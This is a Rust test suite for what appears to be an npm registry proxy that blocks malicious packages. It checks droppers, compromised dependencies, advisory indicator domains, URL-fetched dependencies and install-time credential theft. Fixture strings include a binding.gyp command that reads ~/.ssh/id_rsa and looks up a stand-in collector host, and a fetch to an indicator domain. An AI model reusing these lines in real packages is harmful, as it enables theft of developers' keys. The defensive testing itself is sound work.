//! Every tarball is analysed before it is served; the verdict is stored and decides.

use std::time::Duration;

use airlock_server::ServerConfig;
use airlock_test::attacks;

use crate::harness::Harness;

/// A harness with the Axios pair published: axios 1.14.0 and 1.14.1, and
/// plain-crypto-js 4.2.0 (decoy) and 4.2.1 (dropper). All old enough for the age gate.
async fn axios_registry() -> Harness {
    let harness = Harness::new().await;
    for package in [
        attacks::axios_clean(),
        attacks::axios_compromised(),
        attacks::plain_crypto_js_decoy(),
        attacks::plain_crypto_js_dropper(),
    ] {
        harness.registry.publish(package);
    }
    harness
}

#[tokio::test]
async fn the_dropper_is_refused_with_its_findings() {
    let harness = axios_registry().await;
    let answer = harness
        .get("/plain-crypto-js/-/plain-crypto-js-4.2.1.tgz")
        .await;
    assert_eq!(answer.status, 403);
    let error = answer.error();
    for code in ["obfuscated-code", "self-deletion", "manifest-swap"] {
        assert!(error.contains(code), "{code} missing from: {error}");
    }
    assert!(
        error.contains("setup.js:"),
        "names the file and line: {error}"
    );
    // The decoy stays installable.
    let decoy = harness
        .get("/plain-crypto-js/-/plain-crypto-js-4.2.0.tgz")
        .await;
    assert_eq!(decoy.status, 200);
}

#[tokio::test]
async fn axios_is_refused_because_of_what_it_newly_depends_on() {
    let harness = axios_registry().await;
    let answer = harness.get("/axios/-/axios-1.14.1.tgz").await;
    assert_eq!(answer.status, 403);
    let error = answer.error();
    assert!(error.contains("dependency-risk"), "{error}");
    assert!(error.contains("plain-crypto-js@^4.2.1"), "{error}");
    // The dependency is refused for what it is, and axios does not require it.
    assert!(error.contains("its 4.2.1 is blocked"), "{error}");
    assert!(
        error.contains("no file of this version requires it"),
        "{error}"
    );

    // Once judged, the version disappears from the packument and `latest` falls back.
    let packument = harness.get("/axios").await.json();
    assert!(packument["versions"].get("1.14.1").is_none());
    assert_eq!(packument["dist-tags"]["latest"], "1.14.0");
    assert_eq!(harness.get("/axios/-/axios-1.14.0.tgz").await.status, 200);
}

#[tokio::test]
async fn serving_a_packument_analyses_its_newest_version_in_the_background() {
    let harness = axios_registry().await;
    let first = harness.get("/plain-crypto-js").await.json();
    assert!(first["versions"].get("4.2.1").is_some(), "not judged yet");
    let judged = tokio::time::timeout(Duration::from_secs(20), async {
        loop {
            let packument = harness.get("/plain-crypto-js").await.json();
            if packument["versions"].get("4.2.1").is_none() {
                return packument;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    })
    .await
    .expect("the newest version is analysed without a tarball request");
    assert_eq!(judged["dist-tags"]["latest"], "4.2.0");
}

#[tokio::test]
async fn verdicts_are_stored_and_decide_after_a_restart() {
    let mut harness = axios_registry().await;
    assert_eq!(
        harness
            .get("/plain-crypto-js/-/plain-crypto-js-4.2.1.tgz")
            .await
            .status,
        403
    );
    let dropper = attacks::plain_crypto_js_dropper();
    let key = airlock_npm::Integrity::parse_sri(&dropper.integrity)
        .unwrap()
        .storage_key();
    let stored = harness
        .state
        .store()
        .analysis(&key, i64::from(airlock_analyze::ANALYZER_VERSION))
        .await
        .unwrap()
        .expect("the analysis is stored");
    assert!(
        stored.findings.contains("self-deletion"),
        "{}",
        stored.findings
    );
    harness.restart(ServerConfig::default()).await;
    harness.registry.clear_requests();
    let packument = tokio::time::timeout(Duration::from_secs(5), async {
        loop {
            let packument = harness.get("/plain-crypto-js").await.json();
            if packument["versions"].get("4.2.1").is_none() {
                return packument;
            }
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    })
    .await
    .expect("the stored verdict hides the version");
    assert_eq!(packument["dist-tags"]["latest"], "4.2.0");
    assert_eq!(
        harness
            .registry
            .hits("/plain-crypto-js/-/plain-crypto-js-4.2.1.tgz"),
        0,
        "not fetched again"
    );
}

#[tokio::test]
async fn check_reports_findings_and_the_policy_can_allow_a_code_per_package() {
    let harness = Harness::with_policy(
        ServerConfig::default(),
        Duration::from_secs(5),
        airlock_policy::Policy::from_toml(
            "[[analysis.allow]]\npackage = \"ua-parser-js\"\ncodes = [\"process-spawn\", \"download-execute\", \"network-access\"]\nreason = \"reviewed\"\n",
        )
        .unwrap(),
    )
    .await;
    harness.registry.publish(attacks::ua_parser_js());
    harness.registry.publish(attacks::crossenv());
    let allowed = harness
        .admin("GET", "/check/ua-parser-js@0.7.29", None)
        .await
        .json();
    assert_eq!(allowed["decision"]["verdict"], "allow", "{allowed:#}");
    assert!(
        allowed["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|finding| finding["code"] == "process-spawn"),
        "allowed findings are still shown: {allowed:#}"
    );
    let refused = harness
        .admin("GET", "/check/crossenv@6.1.1", None)
        .await
        .json();
    assert_eq!(refused["decision"]["verdict"], "block", "{refused:#}");
}

#[tokio::test]
async fn advisory_indicators_block_code_that_contacts_them_even_when_analysed_before() {
    let harness = Harness::new().await;
    harness.registry.publish(
        airlock_test::PackageBuilder::new("beacon", "1.0.0")
            .file(
                "index.js",
                "fetch('https://telemetry.ioc.example.invalid/collect', { method: 'POST' });\nmodule.exports = {};\n",
            )
            .build(),
    );
    let path = "/beacon/-/beacon-1.0.0.tgz";
    assert_eq!(
        harness.get(path).await.status,
        200,
        "nothing wrong on its own"
    );

    let record = serde_json::json!({
        "id": "MAL-2026-77",
        "modified": "2026-11-01T00:00:00Z",
        "summary": "Malicious code in dropper-x (npm)",
        "affected": [{"package": {"ecosystem": "npm", "name": "dropper-x"}, "versions": ["1.0.0"]}],
        "database_specific": {"iocs": {"domains": ["ioc.example.invalid"]}},
    });
    let imported = harness
        .admin(
            "POST",
            "/advisories",
            Some(serde_json::json!({"source": "osv", "records": [{"name": "MAL-2026-77.json", "record": record}]})),
        )
        .await;
    assert_eq!(
        imported.status,
        200,
        "{}",
        String::from_utf8_lossy(&imported.body)
    );

    let refused = harness.get(path).await;
    assert_eq!(refused.status, 403);
    let error = refused.error();
    assert!(
        error.contains("network-access") && error.contains("telemetry.ioc.example.invalid"),
        "{error}"
    );
}

#[tokio::test]
async fn a_new_dependency_republished_by_a_new_account_warns() {
    let harness = Harness::new().await;
    let user =
        |name: &str| serde_json::json!({"name": name, "email": format!("{name}@example.invalid")});
    for (version, publisher) in [("2.0.0", "alice"), ("2.0.1", "mallory")] {
        harness.registry.publish(
            airlock_test::PackageBuilder::new("helper", version)
                .field("_npmUser", user(publisher))
                .build(),
        );
    }
    harness
        .registry
        .publish(airlock_test::PackageBuilder::new("parent", "1.0.0").build());
    harness.registry.publish(
        airlock_test::PackageBuilder::new("parent", "1.0.1")
            .dependency("helper", "^2.0.0")
            .file("index.js", "module.exports = require('helper');\n")
            .build(),
    );
    let check = harness
        .admin("GET", "/check/parent@1.0.1", None)
        .await
        .json();
    assert_eq!(check["decision"]["verdict"], "warn", "{check:#}");
    let reasons = check["decision"]["reasons"].to_string();
    assert!(
        reasons.contains("dependency-risk") && reasons.contains("`mallory`"),
        "{reasons}\n{check:#}"
    );
}

#[tokio::test]
async fn an_analysis_past_its_time_limit_holds_the_version() {
    let config = ServerConfig {
        analysis_time_limit: Duration::from_millis(1),
        ..ServerConfig::default()
    };
    let harness = Harness::with_config(config, Duration::from_secs(5)).await;
    // About 2 MB of code: far more than a millisecond of parsing.
    let code = (0..40_000).fold(String::new(), |mut code, i| {
        use std::fmt::Write as _;
        let _ = writeln!(
            code,
            "exports.f{i} = function (a, b) {{ return a + b * {i}; }};"
        );
        code
    });
    harness.registry.publish(
        airlock_test::PackageBuilder::new("heavy", "1.0.0")
            .file("index.js", code)
            .build(),
    );
    let answer = harness.get("/heavy/-/heavy-1.0.0.tgz").await;
    assert_eq!(answer.status, 403, "a timeout is a finding, not an allow");
    let error = answer.error();
    assert!(
        error.contains("analysis-incomplete") && error.contains("did not finish"),
        "{error}"
    );
}

fn days_ago(days: u64) -> std::time::SystemTime {
    std::time::SystemTime::now() - Duration::from_hours(24 * days)
}

/// A refusal says which row of the capability table decided, and how the data got
/// from where it came to where it went: a reviewer checks it in a minute.
#[tokio::test]
async fn a_refusal_names_the_rule_and_the_path_from_source_to_sink() {
    let harness = Harness::new().await;
    harness.registry.publish(attacks::recon_beacon());
    let answer = harness
        .get("/internal-config-loader/-/internal-config-loader-1.0.3.tgz")
        .await;
    assert_eq!(answer.status, 403);
    let error = answer.error();
    for part in [
        "data-exfiltration",
        "[rule exfil-host-identity:",
        "trackingData",
        "https.request to collector.example.invalid",
        "index.js:",
    ] {
        assert!(error.contains(part), "{part} missing from: {error}");
    }
}

/// The diff of a prerelease is against what was out when it was published, not a
/// release published months after it (@visx/shape 4.0.1-alpha.0 against 4.0.0).
#[tokio::test]
async fn a_prerelease_is_compared_with_the_version_published_before_it() {
    let harness = Harness::new().await;
    let version = |version: &str, days: u64, dependency: Option<&str>| {
        let mut builder = airlock_test::PackageBuilder::new("shape-kit", version)
            .file("index.js", "module.exports = 1;\n")
            .published(days_ago(days));
        if let Some(name) = dependency {
            builder = builder.dependency(name, "^1.0.0");
        }
        builder.build()
    };
    harness.registry.publish(version("4.0.0-alpha.1", 90, None));
    harness
        .registry
        .publish(version("4.0.1-alpha.0", 80, Some("@types/lodash")));
    harness.registry.publish(version("4.0.0", 10, None));
    harness.registry.publish(
        airlock_test::PackageBuilder::new("@types/lodash", "1.0.0")
            .file("index.d.ts", "export {};\n")
            .build(),
    );
    let report = harness
        .admin("GET", "/check/shape-kit@4.0.1-alpha.0", None)
        .await
        .json();
    let added = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|finding| finding["code"] == "dependency-added")
        .unwrap_or_else(|| panic!("{report:#}"));
    assert!(
        added["message"]
            .as_str()
            .unwrap()
            .contains("since 4.0.0-alpha.1"),
        "{added:#}"
    );
    // A types-only dependency nothing requires is ordinary: served.
    assert_eq!(report["decision"]["verdict"], "allow", "{report:#}");
}

/// A release whose new dependency the registry does not have (removed for what it
/// did, or never there) is held.
#[tokio::test]
async fn a_dependency_the_registry_does_not_have_is_a_risk() {
    let harness = Harness::new().await;
    harness.registry.publish(
        airlock_test::PackageBuilder::new("mail-kit", "2.2.2")
            .file("index.js", "module.exports = 1;\n")
            .published(days_ago(40))
            .build(),
    );
    harness.registry.publish(
        airlock_test::PackageBuilder::new("mail-kit", "2.2.3")
            .dependency("fetch-cookies-helper", "^1.0.1")
            .file("index.js", "module.exports = 1;\n")
            .published(days_ago(20))
            .build(),
    );
    let answer = harness.get("/mail-kit/-/mail-kit-2.2.3.tgz").await;
    assert_eq!(answer.status, 403, "{}", answer.error());
    assert!(
        answer.error().contains("the registry has no such package"),
        "{}",
        answer.error()
    );
    assert_eq!(
        harness.get("/mail-kit/-/mail-kit-2.2.2.tgz").await.status,
        200
    );
}

/// A package whose dependency is a tarball on some server (the 2025 "remote
/// dynamic dependency" campaigns: an empty package, the payload fetched by npm from
/// the attacker's host at install, past the registry and the proxy) is held; the
/// same package depending through the registry is served.
#[tokio::test]
async fn a_dependency_fetched_from_a_url_is_held() {
    let harness = Harness::new().await;
    harness.registry.publish(
        airlock_test::PackageBuilder::new("eslint-unused-shape", "1.0.0")
            .dependency(
                "ui-styles-pkg",
                "http://packages.campaign.invalid/npm/ui-styles-pkg",
            )
            .file("index.js", "module.exports = {};\n")
            .published(days_ago(40))
            .build(),
    );
    harness.registry.publish(
        airlock_test::PackageBuilder::new("eslint-used-shape", "1.0.0")
            .dependency("eslint-unused-shape", "^1.0.0")
            .file(
                "index.js",
                "module.exports = require('eslint-unused-shape');\n",
            )
            .published(days_ago(40))
            .build(),
    );
    let answer = harness
        .get("/eslint-unused-shape/-/eslint-unused-shape-1.0.0.tgz")
        .await;
    assert_eq!(answer.status, 403, "{}", answer.error());
    let error = answer.error();
    assert!(error.contains("dependency-risk"), "{error}");
    assert!(
        error.contains("packages.campaign.invalid") && error.contains("past the registry"),
        "{error}"
    );
    assert_eq!(
        harness
            .get("/eslint-used-shape/-/eslint-used-shape-1.0.0.tgz")
            .await
            .status,
        200
    );
}

/// With the sandbox on, a version whose install script looks harmless on the page
/// but, run, reads the canary SSH key and looks up a collector is refused for what
/// it did (`runtime-*` codes in the 403); an ordinary install script is served.
/// Uses the real bubblewrap and strace `scripts/test` installs.
#[tokio::test]
async fn install_scripts_run_in_the_sandbox_decide_too() {
    let sandbox = airlock_sandbox::Config {
        time_limit: Duration::from_secs(20),
        ..airlock_sandbox::Config::default()
    };
    assert!(
        matches!(
            airlock_sandbox::probe(&sandbox),
            airlock_sandbox::Availability::Ready { .. }
        ),
        "the sandbox must be available where the tests run"
    );
    let config = ServerConfig {
        sandbox: Some(sandbox),
        ..ServerConfig::default()
    };
    let harness = Harness::with_config(config, Duration::from_secs(30)).await;
    let old = airlock_test::days_ago(30);
    let thief = airlock_test::attacks::quiet_key_thief()
        .published(old)
        .build();
    let builder = airlock_test::PackageBuilder::new("plain-builder", "1.0.0")
        .script("install", "node install.js")
        .file(
            "install.js",
            "require('fs').writeFileSync(require('path').join(__dirname, 'built.txt'), 'ok');\n",
        )
        .published(old)
        .build();
    // No install script at all: npm builds a `binding.gyp` with node-gyp, and gyp
    // runs the commands the file names while it configures.
    let addon = airlock_test::PackageBuilder::new("quiet-addon", "1.0.0")
        .file(
            "binding.gyp",
            "{ \"variables\": { \"v\": \"<!(node -e \\\"require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa'); require('dns').lookup('k.collect.example', () => {})\\\")\" }, \"targets\": [] }\n",
        )
        .published(old)
        .build();
    harness.registry.publish(thief);
    harness.registry.publish(builder);
    harness.registry.publish(addon);

    let answer = harness.get("/quiet-helper/-/quiet-helper-1.0.0.tgz").await;
    assert_eq!(answer.status, 403, "{}", answer.error());
    let error = answer.error();
    for code in ["runtime-credential-read", "runtime-network"] {
        assert!(error.contains(code), "{code} missing from: {error}");
    }
    assert!(error.contains(".ssh/id_rsa"), "{error}");

    let answer = harness.get("/quiet-addon/-/quiet-addon-1.0.0.tgz").await;
    assert_eq!(answer.status, 403, "{}", answer.error());
    assert!(
        answer.error().contains("runtime-credential-read"),
        "{}",
        answer.error()
    );

    let answer = harness
        .get("/plain-builder/-/plain-builder-1.0.0.tgz")
        .await;
    assert_eq!(answer.status, 200, "{}", answer.error());
}
